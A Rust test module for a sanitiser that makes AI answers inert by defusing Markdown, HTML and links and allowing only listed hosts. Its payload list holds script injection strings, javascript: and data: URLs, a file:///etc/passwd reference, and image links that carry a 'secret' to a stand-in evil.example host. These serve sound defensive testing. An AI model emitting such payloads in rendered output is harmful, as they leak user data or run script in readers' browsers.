//! What an answer can hold that does something, and that it does nothing any more.

use proptest::prelude::*;
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};
use regex::Regex;

use super::*;

fn inert(text: &str) -> String {
    allowing("", text)
}

fn allowing(hosts: &str, text: &str) -> String {
    let mut inert = Inert::new(hosts.parse().unwrap());
    inert.push(text) + &inert.finish()
}

/// Whatever a renderer of Markdown, a browser, or what makes links of plain text would act upon.
fn dangers(text: &str) -> Vec<String> {
    let options = Options::all() - Options::ENABLE_WIKILINKS;
    let events = Parser::new_ext(text, options).filter(|event| match event {
        // An address of mail may be one wherever it stands.
        Event::Start(Tag::Link { link_type, .. }) => *link_type != LinkType::Email,
        Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. }) => true,
        _ => false,
    });
    let mut dangers: Vec<_> = events.map(|event| format!("{event:?}")).collect();
    let patterns = r"(?i)<[a-z/!?]|!\[|\]\(|\]\[|\]:|://\S|(?:^|[^\p{L}\p{N}])(?:javascript|vbscript|data|file|mailto):\S|(?:^|[^a-z0-9])www\.[a-z0-9]|(?:^|[\s(])//[a-z0-9]";
    let found = Regex::new(patterns).unwrap();
    dangers.extend(found.find_iter(text).map(|found| found.as_str().to_owned()));
    dangers
}

const EVIL: &[&str] = &[
    "<script>alert(1)</script>",
    "</div><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- --><?php ?><!DOCTYPE html><![CDATA[x]]>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "![x]\n\n[x]: <https://evil.example>",
    "[text](https://evil.example)",
    "[text](<https://evil.example> \"title\")",
    "[text](javascript:alert(1))",
    "[text](&#106;avascript:alert(1))",
    "[text](JaVaScRiPt:alert(1))",
    "[text](data:text/html;base64,PHN2Zz4=)",
    "[text](//evil.example)",
    "[text](/relative)",
    "[text][r] and [r] and [r][]\n\n[r]: data:text/html,x",
    "<https://evil.example/x> <mailto:a@evil.example>",
    "bare https://evil.example/x, HTTP://EVIL.example, ftp://evil.example, www.evil.example",
    "(//evil.example/x) //evil.example",
    "[![img](https://evil.example/i)](https://evil.example)",
    "> [r]: https://evil.example\n\n- [r]\n\n1. [q]: x\n[q]",
    "```html\n<img src=x>\n```\n    <b>indented</b>\n`<i>`",
    "`[a](https://evil.example)`",
    "]\u{200b}(https://evil.example) [x]\u{2060}(y) <\u{feff}b>",
    "[x]\u{202e}(https://evil.example)",
    "[^1]\n\n[^1]: https://evil.example",
    "[x](https://evil.example\n\"t\")",
    "\\[x](https://evil.example) \\![x](https://evil.example)",
    "javascript:alert(1) data:text/html,x vbscript:x file:///etc/passwd",
    "https:\u{0}//evil.example",
    "[x](https://allowed.example@evil.example)",
    "<a href=\"https://evil.example\">x</a>",
    "[a\n](https://evil.example)[b]\n:x",
    "![[x]](https://evil.example)",
];

#[test]
fn nothing_does_anything() {
    for text in EVIL {
        let told = inert(text);
        assert_eq!(dangers(&told), Vec::<String>::new(), "{text} became {told}");
        assert_eq!(inert(&told), told, "and again it is the same");
        let seen: String = text.chars().filter(|c| *c == '\n' || !is_unwanted(*c)).collect();
        assert!(!dangers(&seen).is_empty(), "nothing was to be done for {text}");
    }
}

#[test]
fn it_can_still_be_read() {
    for (text, told) in [
        ("[text](https://evil.example/a)", "[text] (https:// evil.example/a)"),
        ("![alt](https://evil.example/a)", "! [alt] (https:// evil.example/a)"),
        ("[r]: https://evil.example", "[r] : https:// evil.example"),
        ("<b>bold</b>", "< b>bold< /b>"),
        ("```html\n<p class=\"x\">\n```", "```html\n< p class=\"x\">\n```"),
        ("see www.evil.example.", "see www. evil.example."),
        ("[x](javascript:alert(1))", "[x] (javascript: alert(1))"),
        ("a\r\nb\u{0}c\u{202e}d\u{e0041}e\u{2028}f", "a\nbcde\nf"),
    ] {
        assert_eq!(inert(text), told);
    }
}

#[test]
fn plain_words_are_left_alone_and_do_not_wait() {
    let text = "Grüße! 1. Open *Settings* → **Account** (top right): at 12:30, 3 < 5 and a <3 for `code`, [gap to fill], \
                x[1] = y; and/or 24/7. Ratio 1:2, metadata:x, e.g. Node.js and mail a@b.example\n\n- list\n\t# ok 👩‍🚒 می‌خواهم // note\n";
    for hosts in ["", "allowed.example"] {
        let mut inert = Inert::new(hosts.parse().unwrap());
        for character in text.chars() {
            assert_eq!(inert.push(&character.to_string()), character.to_string());
        }
        assert_eq!(inert.finish(), "");
    }
}

#[test]
fn allowed_hosts_are_linked_to_and_nothing_else() {
    let told = |text: &str| allowing("allowed.example, docs.other.example", text);
    for text in [
        "[text](https://allowed.example/a?b=c#d)",
        "[text](http://sub.ALLOWED.example)",
        "[text](https://docs.other.example/ \"title\")",
        "see https://allowed.example.",
        "see https://allowed.example/x, (https://docs.other.example)",
        "https://allowed.example",
        "www.allowed.example/x",
        "**https://allowed.example**",
        "https://allowed.example/a//b",
    ] {
        assert_eq!(told(text), text);
    }
    for (text, instead) in [
        ("[x](https://evil.example)", "[x] (https:// evil.example)"),
        ("[x](https://other.example)", "[x] (https:// other.example)"),
        ("[x](https://notallowed.example)", "[x] (https:// notallowed.example)"),
        (
            "[x](https://allowed.example.evil.example)",
            "[x] (https:// allowed.example.evil.example)",
        ),
        (
            "[x](https://allowed.example@evil.example)",
            "[x] (https:// allowed.example@evil.example)",
        ),
        (
            "[x](https://allowed.example:8443/)",
            "[x] (https:// allowed.example:8443/)",
        ),
        (
            "[x](https://allowed.example\\@evil.example)",
            "[x] (https:// allowed.example\\@evil.example)",
        ),
        (
            "[x](https://allowed.example&#64;evil.example)",
            "[x] (https:// allowed.example&#64;evil.example)",
        ),
        ("[x](<https://allowed.example>)", "[x] (< https://allowed.example>)"),
        (
            "[x](javascript://allowed.example/%0aalert(1))",
            "[x] (javascript: // allowed.example/%0aalert(1))",
        ),
        ("[x](//allowed.example)", "[x] (// allowed.example)"),
        (
            "![x](https://allowed.example/i.png)",
            "! [x](https://allowed.example/i.png)",
        ),
        ("[r]: https://allowed.example", "[r] : https://allowed.example"),
        (
            "https://allowed.example)@evil.example",
            "https:// allowed.example)@evil.example",
        ),
        (
            "https://allowed.example,https://evil.example",
            "https:// allowed.example,https:// evil.example",
        ),
        ("ftp://allowed.example", "ftp:// allowed.example"),
        ("xhttps://allowed.example", "xhttps:// allowed.example"),
        (
            "https://allowed.example/?u=https://evil.example",
            "https://allowed.example/?u=https:// evil.example",
        ),
        ("[x](https://allowed.example", "[x] (https://allowed.example"),
        ("www.evil.example", "www. evil.example"),
        ("<a href=https://allowed.example>", "< a href=https://allowed.example>"),
    ] {
        assert_eq!(told(text), instead);
        let left: Vec<_> = dangers(instead)
            .into_iter()
            .filter(|danger| danger.contains("evil"))
            .collect();
        assert!(left.is_empty(), "{left:?}");
    }
}

#[test]
fn what_waits_is_bounded() {
    for begin in ["https://", "[x](https://", "www."] {
        let mut inert = Inert::new("allowed.example".parse().unwrap());
        let text = format!("{begin}{}", "a".repeat(5_000));
        let told = inert.push(&text);
        assert!(told.len() > 4_500, "{begin}: {} of {}", told.len(), text.len());
    }
    let mut inert = Inert::new(Hosts::default());
    for text in EVIL {
        let told = inert.push(text);
        assert!(
            inert.undecided.is_none() && !told.is_empty(),
            "without hosts nothing waits"
        );
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let parts = prop::sample::select(vec![
        "<",
        ">",
        "/",
        "//",
        "!",
        "[",
        "]",
        "(",
        ")",
        ":",
        "https",
        "http",
        "://",
        "www",
        ".",
        "javascript",
        "data",
        "allowed",
        "example",
        "allowed.example",
        "evil.example",
        "a",
        " ",
        "\n",
        "\\",
        "@",
        "&#58;",
        "`",
        "```",
        "\"",
        "\u{200b}",
        "\r",
        "#",
        "?",
        "ö",
        "1",
        "*",
        "_",
        "|",
        "    ",
        "> ",
        "- ",
    ]);
    prop::collection::vec(parts, 0..40).prop_map(|parts| parts.concat())
}

fn in_pieces(hosts: &str, text: &str, cuts: &[usize]) -> String {
    let mut cuts: Vec<_> = cuts
        .iter()
        .map(|cut| text.floor_char_boundary(cut % (text.len() + 1)))
        .collect();
    cuts.push(text.len());
    cuts.sort_unstable();
    let mut inert = Inert::new(hosts.parse().unwrap());
    let (mut told, mut from) = (String::new(), 0);
    for cut in cuts {
        told.push_str(&inert.push(&text[from..cut]));
        from = cut;
    }
    told + &inert.finish()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]
    #[test]
    fn whatever_is_written_does_nothing(text in pieces()) {
        let told = inert(&text);
        prop_assert_eq!(dangers(&told), Vec::<String>::new(), "{} became {}", text, told);
        prop_assert_eq!(inert(&told), told.clone());
        // Nothing but spaces was put in, and nothing but what nobody sees taken out.
        let seen = |text: &str| text.chars().filter(|c| *c != ' ' && !is_unwanted(*c) || *c == '\n').collect::<String>();
        prop_assert_eq!(seen(&told), seen(&text));
    }

    #[test]
    fn any_cut_gives_the_same_text(text in pieces(), cuts in prop::collection::vec(any::<usize>(), 0..20), allowed in any::<bool>()) {
        let hosts = if allowed { "allowed.example" } else { "" };
        prop_assert_eq!(in_pieces(hosts, &text, &cuts), allowing(hosts, &text));
    }

    #[test]
    fn links_go_to_allowed_hosts_only(text in pieces()) {
        let told = allowing("allowed.example", &text);
        for event in Parser::new_ext(&told, Options::all() - Options::ENABLE_WIKILINKS) {
            match event {
                Event::Html(html) | Event::InlineHtml(html) => prop_assert!(false, "{html} in {told}"),
                Event::Start(Tag::Image { dest_url, .. }) => prop_assert!(false, "an image of {dest_url} in {told}"),
                Event::Start(Tag::Link { link_type: LinkType::Email, .. }) => {}
                Event::Start(Tag::Link { dest_url, .. }) => {
                    let url = reqwest::Url::parse(&dest_url).unwrap();
                    prop_assert!(matches!(url.scheme(), "http" | "https"), "{dest_url}");
                    prop_assert_eq!(url.host_str(), Some("allowed.example"), "{} in {}", dest_url, told);
                }
                _ => {}
            }
        }
        // As what makes links of plain text would see it.
        let words = Regex::new(r"(?i)https?://[^\s<]+").unwrap();
        for word in words.find_iter(&told) {
            let url = reqwest::Url::parse(word.as_str().trim_end_matches(CLOSING));
            let host = url.ok().and_then(|url| url.host_str().map(str::to_owned));
            prop_assert!(host.is_none_or(|host| host.ends_with("allowed.example")), "{} in {told}", word.as_str());
        }
    }
}
